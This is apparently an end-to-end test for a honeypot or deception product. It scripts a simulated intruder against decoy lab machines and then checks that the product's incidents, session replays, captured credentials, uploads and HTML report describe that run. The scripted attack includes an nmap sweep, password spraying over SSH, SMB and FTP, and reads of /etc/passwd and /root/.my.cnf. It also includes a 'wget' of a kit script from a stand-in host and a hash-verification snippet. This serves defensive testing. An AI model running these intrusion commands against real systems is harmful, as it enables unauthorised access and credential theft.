/**
 * One intruder's afternoon on the LAN: a sweep, a spray of passwords, a login, commands, a download, an upload, and on to
 * the next machine. What the operator's commands then tell of it has to be what was done, and no more than one thing.
 */
import {createHash, randomBytes} from 'node:crypto'
import {existsSync, mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {pathToFileURL} from 'node:url'
import {expect, it} from 'vitest'
import type {Alert, IncidentDetail} from '../../src/events/incidents/incident.ts'
import {poll} from '../lab/process.ts'
import {BROWSER_PACKAGES, ensurePackages} from '../lab/tools.ts'
import {type Bench, said, useBench} from '../support/bench.ts'
import {Browser} from '../support/browser.ts'
import type {Section} from '../support/fleet-text.ts'
import {describeOnLab} from '../support/lab.ts'
import {rounds} from '../support/soak.ts'

const LIMIT_MS = 600_000
/** Deckies of the sweep. */
const DECKIES = rounds(8, 60)
const PASSWORD = 'Winter-2024'
const GUESS = 'Sommer-2023'
const SPRAYED = ['admin', 'backup'] as const
const QUIET = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR']

const FLEET: Readonly<Record<string, Section>> = {
  gate: {services: 'ssh, http', os: 'linux', distro: 'debian'},
  'gate.ssh': {users: `root:${PASSWORD}`},
  files: {services: 'smb, nbns', os: 'windows_server'},
  'files.smb': {users: `backup:${PASSWORD}`},
  share: {services: 'ftp', os: 'linux', distro: 'debian'},
  jump: {services: 'ssh', os: 'linux', distro: 'debian'},
  'jump.ssh': {users: `root:${PASSWORD}`},
  store: {services: 'mysql', os: 'linux', distro: 'debian'},
  'store.mysql': {users: `app:${PASSWORD}`},
}

interface Address {
  readonly [decky: string]: string
}

/** The fleet, and whatever else stands on the LAN. */
async function deployed(on: Bench): Promise<Address> {
  expect((await on.run(['config', 'set', 'deployment-limit', '100'])).code).toBe(0)
  const named = Object.keys(FLEET).filter((name) => !name.includes('.')).length
  const others = Object.fromEntries(
    Array.from({length: DECKIES - named}, (_, index) => [`other-${index + 1}`, {services: 'http, redis', os: 'linux'}]),
  )
  await on.deploy(on.text({...FLEET, ...others}))
  const {deckies} = await on.status()
  return Object.fromEntries(deckies.map(({name, ip}) => [name, ip]))
}

/** A part of what the intruder does; each ends before the next begins. */
class Intruder {
  readonly #on: Bench
  readonly #at: Address
  readonly tool: Buffer
  readonly toolPath: string

  constructor(on: Bench, at: Address) {
    this.#on = on
    this.#at = at
    this.tool = randomBytes(40_000)
    this.toolPath = join(on.site.directory, 'kit.bin')
    writeFileSync(this.toolPath, this.tool)
  }

  /** With versions: ports alone are asked half-open, or are taken back at once, and then nobody knows whose they were. */
  async sweep(): Promise<void> {
    const ports = '21,22,80,139,445,3306,6379'
    await this.#run('nmap', ['-n', '-Pn', '-sV', '-T4', '-p', ports, ...Object.values(this.#at)])
  }

  async spray(): Promise<void> {
    for (const user of SPRAYED) {
      await this.#ssh('gate', user, GUESS, ['id'])
      await this.#run('smbclient', ['-U', `${user}%${GUESS}`, '-L', `//${this.#at.files}`])
      await this.#run('curl', ['-sS', '-m', '10', `ftp://${user}:${GUESS}@${this.#at.share}/`])
    }
  }

  /** At a terminal, as a person types. */
  async goIn(): Promise<string> {
    const typed = [
      'id',
      'uname -a',
      'cat /etc/passwd',
      'wget http://198.51.100.9/kit.sh',
      `ssh root@${this.#at.jump}`,
      'exit',
    ]
    const args = ['-p', PASSWORD, 'ssh', '-tt', ...QUIET, `root@${this.#at.gate}`]
    const {stdout} = await this.#on.lab.intruder('sshpass', args, {input: `${typed.join('\n')}\n`, timeoutMs: 60_000})
    return stdout
  }

  async upload(): Promise<void> {
    const args = ['-p', PASSWORD, 'scp', ...QUIET, this.toolPath, `root@${this.#at.gate}:/tmp/kit.bin`]
    const outcome = await this.#run('sshpass', args)
    expect(outcome.code, outcome.stderr).toBe(0)
  }

  async goOn(): Promise<void> {
    const inside = await this.#ssh('jump', 'root', PASSWORD, ['cat', '/root/.my.cnf'])
    expect(inside.code, inside.stderr).not.toBe(255)
    const login = ['--no-defaults', '-h', String(this.#at.store), '-uapp', `-p${PASSWORD}`, '-e', 'show databases']
    expect((await this.#run('mysql', login)).stdout).toContain('information_schema')
  }

  #ssh(decky: string, user: string, password: string, command: readonly string[]) {
    return this.#run('sshpass', ['-p', password, 'ssh', ...QUIET, `${user}@${this.#at[decky]}`, ...command])
  }

  #run(command: string, args: readonly string[]) {
    return this.#on.lab.intruder(command, args, {timeoutMs: 60_000})
  }
}

/** What a command prints with `--json`. */
async function asked<T>(on: Bench, ...args: string[]): Promise<T> {
  const outcome = await on.run([...args, '--json'])
  expect(outcome, said(outcome)).toMatchObject({code: 0})
  return outcome.json as T
}

async function printed(on: Bench, ...args: string[]): Promise<string> {
  const outcome = await on.run(args)
  expect(outcome, said(outcome)).toMatchObject({code: 0})
  return outcome.stdout
}

/** Where it went, each machine once as long as it stayed, without those that it only looked at. */
function stations(path: readonly {decky: string; class: string}[]): string[] {
  const places = path.filter(({class: name}) => name !== 'scan').map(({decky}) => decky)
  return places.filter((decky, index) => decky !== places[index - 1])
}

/** NetNTLMv2 as impacket computes it, which has no code of ours. */
const CRACK = `
import sys
from impacket import ntlm
password = sys.argv[1]
for line in sys.stdin.read().split():
    user, _, domain, challenge, proof, blob = line.split(':')
    key = ntlm.NTOWFv2(user, password, domain)
    print(user, ntlm.hmac_md5(key, bytes.fromhex(challenge) + bytes.fromhex(blob)).hex() == proof.lower())
`

describeOnLab('an intrusion', () => {
  const tools = ['nmap', 'ssh', 'sshpass', 'smbclient', 'curl', 'mysql', 'impacket-rpcdump'] as const
  const bench = useBench('intrusion', {tools})

  it('is one incident, told as it went', {timeout: LIMIT_MS}, async () => {
    const on = bench()
    await ensurePackages(BROWSER_PACKAGES, (line) => console.info(`lab: ${line}`))
    const at = await deployed(on)
    const source = on.lab.layout.intruderAddress
    const collector = on.start(['collect'], {timeoutMs: LIMIT_MS})
    await printed(on, 'sinks', 'add', 'alerts', 'file', `path=${join(on.site.directory, 'alerts')}`, 'events=none')
    const intruder = new Intruder(on, at)
    await intruder.sweep()
    await intruder.spray()
    const screen = await intruder.goIn()
    await intruder.upload()
    await intruder.goOn()
    await poll(
      'the last of it is collected',
      async () => {
        const {events} = await asked<{events: unknown[]}>(on, 'events', '--decky', 'store', '--event', 'query')
        return events.length > 0
      },
      {timeoutMs: 30_000, everyMs: 200},
    )

    await expectOneIncident(on, source)
    await expectPath(on, source)
    await expectReplay(on, source, screen)
    await expectCredentials(on)
    await expectCapture(on, intruder)
    await expectReport(on, source, Object.keys(at))
    collector.child.kill('SIGINT')
    expect(await collector.done).toMatchObject({code: 130})
  })

  async function expectOneIncident(on: Bench, source: string): Promise<void> {
    const {incidents} = await asked<{incidents: IncidentDetail[]}>(on, 'incidents')
    expect(incidents).toMatchObject([{source, class: 'high-confidence', state: 'open'}])
    const [incident] = incidents
    expect(new Set(incident?.touches.map(({decky}) => decky)).size).toBe(DECKIES)
    expect(incident?.attempts).toBeGreaterThanOrEqual(3 * SPRAYED.length + 4)
    const lines = await poll(
      'alerts are handed on',
      () => {
        const path = join(on.site.directory, 'alerts')
        return existsSync(path) && readFileSync(path, 'utf8').trimEnd().split('\n')
      },
      {timeoutMs: 10_000},
    )
    const alerts = lines.map((line) => (JSON.parse(line) as {alert: Alert}).alert)
    expect(alerts.length).toBeLessThanOrEqual(3)
    expect(alerts.at(-1)).toMatchObject({source, class: 'high-confidence', incident: incident?.id})
  }

  async function expectPath(on: Bench, source: string): Promise<void> {
    const {path} = await asked<{path: {decky: string; class: string; services: string[]}[]}>(on, 'sources', source)
    const way = [...SPRAYED.flatMap(() => ['gate', 'files', 'share']), 'gate', 'jump', 'store']
    expect(stations(path).slice(-way.length), 'after the sweep').toEqual(way)
    expect(await printed(on, 'sources', source)).toMatch(/gate[\s\S]*jump[\s\S]*store/)
  }

  async function expectReplay(on: Bench, source: string, screen: string): Promise<void> {
    const {sessions} = await asked<{sessions: {id: string; decky: string; service: string}[]}>(
      on,
      ...['sessions', '--terminal', '--source', source],
    )
    expect(sessions).toMatchObject([{decky: 'gate', service: 'ssh'}])
    const replayed = await printed(on, 'replay', String(sessions[0]?.id), '--speed', '0')
    for (const shown of ['uid=0(root)', 'root:x:0:0:', 'wget http://198.51.100.9/kit.sh']) {
      expect(screen).toContain(shown)
      expect(replayed).toContain(shown)
    }
    const cast = await printed(on, 'replay', String(sessions[0]?.id), '--asciicast')
    expect(JSON.parse(cast.split('\n')[0] ?? '')).toMatchObject({version: 2})
    const text = await printed(on, 'replay', String(sessions[0]?.id), '--text')
    expect(text).toContain('http://198.51.100.9/kit.sh')
  }

  async function expectCredentials(on: Bench): Promise<void> {
    const lines = await printed(on, 'credentials', '--format', 'hashcat', '--mode', '5600')
    const cracked = await on.lab.intruder('/usr/bin/python3', ['-c', CRACK, GUESS], {input: lines})
    expect(cracked.stdout.trimEnd().split('\n').toSorted(), cracked.stderr).toEqual(
      SPRAYED.map((user) => `${user} True`),
    )
    const {credentials} = await asked<{credentials: {principal: string; secret: string; deckies: string[]}[]}>(
      on,
      ...['credentials', '--success', '--service', 'ssh'],
    )
    expect(credentials).toMatchObject([{principal: 'root', secret: PASSWORD, deckies: ['gate', 'jump']}])
  }

  async function expectCapture(on: Bench, {tool}: Intruder): Promise<void> {
    const sha256 = createHash('sha256').update(tool).digest('hex')
    const {captures} = await asked<{captures: object[]}>(on, 'captures')
    expect(captures).toMatchObject([
      {sha256, size: tool.length, kept: tool.length, deckies: ['gate'], services: ['ssh']},
    ])
    const copy = join(on.site.directory, 'captured')
    await printed(on, 'captures', sha256.slice(0, 12), '--output', copy)
    expect(readFileSync(copy).equals(tool)).toBe(true)
  }

  async function expectReport(on: Bench, source: string, deckies: readonly string[]): Promise<void> {
    const page = join(on.site.directory, 'report.html')
    await printed(on, 'report', '--since', '1h', '--html', page)
    const way = /<div class="path">(.*?)<\/div>/s.exec(readFileSync(page, 'utf8'))?.[1] ?? ''
    const places = [...way.matchAll(/<b>(.*?)<\/b>/g)].map(([, place]) => place)
    expect(places.slice(-3), 'where it was inside is shown, however long it knocked').toEqual(['gate', 'jump', 'store'])
    const url = pathToFileURL(page).href
    const browser = await Browser.start()
    try {
      await browser.open(url)
      for (const [name, width] of [
        ['desktop', 1200],
        ['phone', 390],
      ] as const) {
        const look = await browser.look({width, height: 800, mobile: name === 'phone'})
        keep(`${name}.png`, look.picture)
        expect(look.contentWidth, `${name}: nothing sticks out`).toBeLessThanOrEqual(width)
        for (const text of [source, PASSWORD, 'jump', 'store', 'mysql', 'high confidence', ...deckies.slice(0, 8)]) {
          expect(look.text).toContain(text)
        }
      }
      const paper = await browser.print()
      keep('report.pdf', paper)
      expect(paper.subarray(0, 5).toString()).toBe('%PDF-')
      expect(browser.complaints).toEqual([])
      expect([...new Set(browser.requests)]).toEqual([url])
    } finally {
      await browser.close()
    }
  }
})

/** For people to look at, where `DECNET_PICTURES` names a directory. */
function keep(name: string, bytes: Buffer): void {
  const directory = process.env.DECNET_PICTURES ?? ''
  if (directory === '') return
  mkdirSync(directory, {recursive: true})
  writeFileSync(join(directory, name), bytes)
}
